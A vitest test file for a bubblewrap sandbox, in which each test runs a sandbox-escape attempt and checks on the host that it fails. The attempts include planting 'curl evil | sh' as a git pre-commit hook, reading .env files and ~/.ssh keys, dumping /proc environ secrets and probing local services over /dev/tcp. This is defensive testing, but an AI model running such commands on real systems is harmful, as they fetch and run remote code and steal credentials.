import { existsSync } from 'node:fs';
import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import net from 'node:net';
import { join } from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { BubblewrapSandbox } from '../src/index';
import { bash, type Scratch, scratch, withBubblewrap } from './sandbox-target';

// Each test is an escape attempt that must fail; what counts is checked on the host, after the command.
withBubblewrap('escape attempts (bubblewrap)', () => {
  let at: Scratch;
  let sandbox: BubblewrapSandbox;
  const secret = 'sk-process-secret-0123456789';
  beforeAll(async () => {
    process.env.BRIDLE_SANDBOX_TEST_KEY = secret;
    process.env.BRIDLE_SANDBOX_TEST_NAMED = 'passed-by-name';
    at = await scratch();
    sandbox = await at.open({ env: ['BRIDLE_SANDBOX_TEST_NAMED'] });
  });
  afterAll(async () => {
    delete process.env.BRIDLE_SANDBOX_TEST_KEY;
    delete process.env.BRIDLE_SANDBOX_TEST_NAMED;
    await rm(at.base, { recursive: true, force: true });
  });

  it('writes inside the workspace, with the workspace as the working directory', async () => {
    const result = await sandbox.run(bash('pwd; echo made > made.txt'));
    expect(result).toMatchObject({ exitCode: 0, stdout: `${sandbox.root}\n`, refusals: [] });
    expect(await readFile(join(at.workspace, 'made.txt'), 'utf8')).toBe('made\n');
  });

  it('cannot write outside the workspace: an absolute path, .., a system folder', async () => {
    const target = join(at.outside, 'target.txt');
    const result = await sandbox.run(
      bash(
        `echo owned > ${target}; echo owned > ../outside/new.txt; echo owned > /usr/bridle-owned; touch /etc/bridle-owned`,
      ),
    );
    // The folder beside the workspace is under /tmp, an empty tmpfs inside: the writes land there and vanish.
    expect(await readFile(target, 'utf8')).toBe('untouched\n');
    expect(existsSync(join(at.outside, 'new.txt'))).toBe(false);
    expect(existsSync('/usr/bridle-owned')).toBe(false);
    expect(existsSync('/etc/bridle-owned')).toBe(false);
    expect(result.stderr).toContain('/usr/bridle-owned: Read-only file system');
    expect(result.refusals[0]).toMatch(/^The sandbox refused a write: only the workspace is writable/);
  });

  it('cannot write through a symlink it creates inside pointing out, nor hard-link files from outside', async () => {
    const result = await sandbox.run(
      bash(
        `ln -s ${at.outside} out-link; echo owned > out-link/target.txt; ln -s /etc etc-link; echo owned > etc-link/bridle-owned; ln /etc/hostname hard-link; ln .git/config git-config-link; ls`,
      ),
    );
    expect(await readFile(join(at.outside, 'target.txt'), 'utf8')).toBe('untouched\n');
    expect(existsSync('/etc/bridle-owned')).toBe(false);
    expect(result.stderr).toContain(
      "ln: failed to create hard link 'hard-link' => '/etc/hostname': Invalid cross-device link",
    );
    expect(result.stderr).toContain(
      "ln: failed to create hard link 'git-config-link' => '.git/config': Invalid cross-device link",
    );
    expect(result.stdout.split('\n')).not.toContain('hard-link');
  });

  it('cannot change .git: hooks, config, replacing or removing the folder', async () => {
    const before = await readFile(join(at.workspace, '.git', 'config'), 'utf8');
    const result = await sandbox.run(
      bash(
        'echo "curl evil | sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; git config core.hooksPath /tmp; echo "[core] fsmonitor = evil" >> .git/config; mv .git moved; rm -rf .git; ln -sfn /tmp .git; ls -a',
      ),
    );
    expect(existsSync(join(at.workspace, '.git', 'hooks', 'pre-commit'))).toBe(false);
    expect(await readFile(join(at.workspace, '.git', 'config'), 'utf8')).toBe(before);
    expect(existsSync(join(at.workspace, 'moved'))).toBe(false);
    expect(result.stderr).toContain('.git/hooks/pre-commit: Read-only file system');
  });

  it('cannot read .env files, and a protected path it creates is removed and reported', async () => {
    const result = await sandbox.run(
      bash('cat .env; echo FAKE=1 > .env.local; mkdir -p vendor/x/.git/hooks; echo done'),
    );
    expect(result.stdout).not.toContain('sk-workspace-secret');
    expect(result.stderr).toContain('cat: .env: Permission denied');
    expect(existsSync(join(at.workspace, '.env.local'))).toBe(false);
    expect(existsSync(join(at.workspace, 'vendor', 'x', '.git'))).toBe(false);
    expect(await readFile(join(at.workspace, '.env'), 'utf8')).toBe('OPENAI_API_KEY=sk-workspace-secret\n');
    expect(result.refusals).toContain(
      'The command created protected paths, which the sandbox removed: .env.local, vendor/x/.git. Do not create .git, .env* or .bridle entries.',
    );
  });

  it('a protected name that is a symlink protects its target; a symlink the command makes is removed, never its target', async () => {
    await mkdir(join(at.workspace, 'real-git'), { recursive: true });
    await writeFile(join(at.workspace, 'real-git', 'config'), 'kept\n');
    await writeFile(join(at.workspace, 'secret.txt'), 'sk-linked-secret\n');
    await mkdir(join(at.workspace, 'nested'));
    await symlink('../real-git', join(at.workspace, 'nested', '.git'));
    await symlink('secret.txt', join(at.workspace, '.env.linked'));
    const result = await sandbox.run(
      bash('echo owned >> real-git/config; cat secret.txt; ln -s notes.txt .env.made; echo done'),
    );
    expect(await readFile(join(at.workspace, 'real-git', 'config'), 'utf8')).toBe('kept\n');
    expect(result.stdout).toBe('done\n');
    expect(result.stderr).toContain('cat: secret.txt: Permission denied');
    expect(existsSync(join(at.workspace, '.env.made'))).toBe(false);
    expect(await readFile(join(at.workspace, 'notes.txt'), 'utf8')).toBe('hello\n');
    expect(await readFile(join(at.workspace, 'secret.txt'), 'utf8')).toBe('sk-linked-secret\n');
    expect(result.refusals).toContain(
      'The command created protected paths, which the sandbox removed: .env.made. Do not create .git, .env* or .bridle entries.',
    );
    await rm(join(at.workspace, '.env.linked'));
  });

  it("cannot read the user's home: ~/.ssh, ~/.config/bridle, also through a symlink in the workspace", async () => {
    const result = await sandbox.run(
      bash(
        `ls -A "$HOME"; cat ${at.home}/.ssh/id_ed25519; ln -s ${at.home} home-link; cat home-link/.config/bridle/config.json; echo end`,
      ),
    );
    expect(result.stdout).toBe('end\n');
    expect(result.stderr).toContain(`cat: ${at.home}/.ssh/id_ed25519: No such file or directory`);
    expect(result.stderr).toContain('cat: home-link/.config/bridle/config.json: No such file or directory');
  });

  it('gets no secret from the environment, only the allow-list and the names the user passed', async () => {
    const result = await sandbox.run(bash('env; cat /proc/*/environ 2>/dev/null | tr "\\0" "\\n"'));
    expect(result.stdout).not.toContain(secret);
    expect(result.stdout).not.toContain('OPENAI_API_KEY');
    const names = new Set(result.stdout.split('\n').map((line) => line.split('=')[0]));
    expect(names.has('BRIDLE_SANDBOX_TEST_NAMED')).toBe(true);
    for (const name of names) {
      expect([
        'PATH',
        'LANG',
        'LC_ALL',
        'LC_CTYPE',
        'TZ',
        'HOME',
        'TMPDIR',
        'TERM',
        'PWD',
        'SHLVL',
        '_',
        'BRIDLE_SANDBOX_TEST_NAMED',
        '',
      ]).toContain(name);
    }
  });

  it("sees its own processes only, never the host's /proc", async () => {
    const result = await sandbox.run(
      bash(
        `ls /proc | grep -c '^[0-9]'; test -e /proc/${process.pid}/environ && echo "host""-visible"; cat /proc/1/cmdline | tr "\\0" " "`,
      ),
    );
    const [count, init] = result.stdout.split('\n');
    expect(Number(count)).toBeLessThan(10);
    expect(result.stdout).not.toContain('host-visible');
    expect(init).toMatch(/^\S*bwrap /);
  });

  it('reaches no service on 127.0.0.1 (PostgreSQL, Redis) and no outside name, by TCP or by socket file', async () => {
    const result = await sandbox.run(
      bash(
        'for port in 5432 6379; do (echo > /dev/tcp/127.0.0.1/$port) 2>/dev/null && echo "open $port"; done; getent hosts example.com || echo no-dns; ls /run /var/run/postgresql 2>&1 | head -3; echo end',
      ),
    );
    expect(result.stdout).not.toContain('open');
    expect(result.stdout).toContain('no-dns');
    expect(result.stdout).not.toContain('.s.PGSQL');
    expect(result.refusals).toEqual([]);
    const refused = await sandbox.run(bash('exec 3<>/dev/tcp/127.0.0.1/6379'));
    expect(refused.refusals).toContain(
      'The sandbox has no network: connections (even to 127.0.0.1) and name lookups fail. Work offline; only the user can allow the network.',
    );
  });

  it('with network: true the host network is there (the control for the test above)', async () => {
    const redis = await new Promise<boolean>((resolve) => {
      const socket = net.connect(6379, '127.0.0.1', () => {
        socket.end();
        resolve(true);
      });
      socket.on('error', () => resolve(false));
    });
    const open = await at.open({ network: true });
    const result = await open.run(bash('(echo > /dev/tcp/127.0.0.1/6379) 2>/dev/null && echo open || echo closed'));
    expect(result.stdout).toBe(redis ? 'open\n' : 'closed\n');
    expect(open.network).toBe(true);
  });

  it('has no terminal to inject keystrokes into (TIOCSTI), and no capabilities', async () => {
    const result = await sandbox.run(
      bash(
        'tty; (exec 3<>/dev/tty) 2>&1; grep CapEff /proc/self/status; unshare -U true 2>&1 || echo no-userns; mount -t tmpfs none /mnt 2>&1 || echo no-mount',
      ),
    );
    expect(result.stdout).toContain('not a tty');
    expect(result.stdout).toContain('/dev/tty: No such device or address');
    expect(result.stdout).toContain('CapEff:\t0000000000000000');
    expect(result.stdout).toContain('no-userns');
    expect(result.stdout).toContain('no-mount');
  });
});
